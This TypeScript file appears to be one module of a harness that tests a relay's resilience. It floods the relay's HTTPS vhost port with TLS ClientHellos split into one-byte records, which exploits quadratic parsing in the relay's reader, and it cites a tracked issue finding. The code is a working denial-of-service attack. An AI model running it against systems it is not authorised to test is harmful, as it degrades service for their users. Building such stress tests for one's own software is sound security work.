// Connections to the relay's vhostHTTPSPort that each send a ClientHello of about 2.7 KB cut into
// one-byte TLS records (16 KB on the wire, just under the reader's cap), a few records per TCP
// write: a reader that joins and re-parses everything on every read does quadratic work per
// connection (issue 22, finding 7). Bounded at MAX_HELLOS connections, CONCURRENCY at once.
import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.js'

const MAX_HELLOS = 100_000
const CONCURRENCY = 16
/** One-byte records per TCP write. */
const RECORDS_PER_WRITE = 4
/** The hello's handshake message size: 6 bytes on the wire per byte, just under 16 KiB. */
const HELLO_MESSAGE_BYTES = 2_700

function u16 (n: number): Buffer { const b = Buffer.alloc(2); b.writeUInt16BE(n); return b }

/** A ClientHello (server name `attack.invalid`, padded by an extension) as one-byte records. */
export function oneByteRecordHello (): Buffer {
  const name = Buffer.from('attack.invalid', 'latin1')
  const sni = Buffer.concat([u16(0), u16(name.length + 5), u16(name.length + 3), Buffer.from([0]), u16(name.length), name])
  const fixed = 2 + 32 + 1 + 2 + 2 + 2 + 2 // version, random, session id, suites, compression, extensions length
  const padLen = HELLO_MESSAGE_BYTES - 4 - fixed - sni.length - 4
  const padding = Buffer.concat([u16(21), u16(padLen), Buffer.alloc(padLen)])
  const extensions = Buffer.concat([sni, padding])
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0]), u16(2), Buffer.from([0x13, 0x01]), Buffer.from([1, 0]), u16(extensions.length), extensions])
  const message = Buffer.concat([Buffer.from([1, (body.length >> 16) & 0xff, (body.length >> 8) & 0xff, body.length & 0xff]), body])
  const out = Buffer.alloc(message.length * 6)
  for (let i = 0; i < message.length; i++) {
    out.set([22, 3, 1, 0, 1, message[i] as number], i * 6)
  }
  return out
}

async function oneHello (port: number, host: string, bytes: Buffer, signal: AbortSignal): Promise<boolean> {
  const socket: Socket = connect({ host, port, noDelay: true })
  socket.on('error', () => {})
  let closed = false
  socket.once('close', () => { closed = true })
  try {
    await new Promise<void>((resolve, reject) => { socket.once('connect', resolve); socket.once('error', reject) })
    const step = RECORDS_PER_WRITE * 6
    for (let off = 0; off < bytes.length && !closed && !signal.aborted; off += step) {
      socket.write(bytes.subarray(off, off + step))
      await new Promise((resolve) => setImmediate(resolve))
    }
    return !closed
  } catch {
    return false
  } finally {
    socket.destroy()
  }
}

export const sniOneByteRecords: Attack = {
  name: 'sni-one-byte-records',
  what: `${CONCURRENCY} connections at a time each send a 2.7 KB ClientHello as one-byte TLS records (16 KB) to the https vhost port`,
  run: async (target, signal) => {
    const hello = oneByteRecordHello()
    let sent = 0
    let whole = 0
    const worker = async (): Promise<void> => {
      while (!signal.aborted && sent < MAX_HELLOS) {
        sent++
        if (await oneHello(target.vhostHttpsPort, target.host, hello, signal)) whole++
      }
    }
    await Promise.all(Array.from({ length: CONCURRENCY }, worker))
    return { sent, unit: 'hellos', note: `${whole} sent whole before the relay closed` }
  },
}
